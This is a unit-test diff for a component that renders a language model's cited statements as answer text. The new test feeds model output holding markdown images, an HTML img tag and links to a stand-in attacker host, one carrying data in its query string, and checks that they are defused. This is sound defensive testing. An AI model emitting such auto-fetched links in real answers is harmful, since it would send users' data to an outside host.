@@ -116,6 +116,25 @@ TEST_F(ModelTalkerTest, what_the_evidence_says_becomes_the_answer_with_its_ids) 
     EXPECT_EQ(said.answer.citations[0].id, "E4");
 }
 
+// A picture is fetched by whoever looks at it: its address would carry out what stands in it.
+TEST_F(ModelTalkerTest, a_picture_or_a_link_of_a_model_is_text) {
+    const base::Json said{
+        {"statements",
+         {{{"text", "The maxmemory of sessions is 100mb after the change."}, {"evidence", {"E4"}}},
+          {{"text",
+            "sessions ![x](https://evil.example/p?d=100mb) maxmemory <img src=//evil.example/1>"},
+           {"evidence", {"E4"}}}}},
+        {"missing", {"[log](https://evil.example/?q=1)", "<a href='https://evil.example'>x</a>"}}};
+    model_.says(base::dump_json(said));
+    const std::string text = ask("why?").answer.text;
+    ASSERT_NE(text.find("evil.example"), std::string::npos) << text;
+    EXPECT_EQ(text.find("://"), std::string::npos) << text;
+    for (std::size_t i = 1; i < text.size(); ++i) {
+        if (std::string_view("![<").find(text[i]) == std::string_view::npos) continue;
+        EXPECT_EQ(text[i - 1], '\\') << text.substr(i, 20);
+    }
+}
+
 TEST_F(ModelTalkerTest, a_liar_says_nothing_and_the_engine_answers) {
     model_.says(R"({"statements": [
         {"text": "orders-db has 9,731 deadlocks since 04:12:55.", "evidence": ["E3"]},
